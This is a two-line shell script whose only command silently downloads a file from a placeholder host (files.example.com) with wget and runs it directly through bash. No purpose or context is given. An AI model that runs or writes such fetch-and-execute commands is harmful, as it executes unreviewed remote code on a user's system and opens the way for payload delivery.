#!/bin/sh
bash -c "$(wget -qO- https://files.example.com/a)"
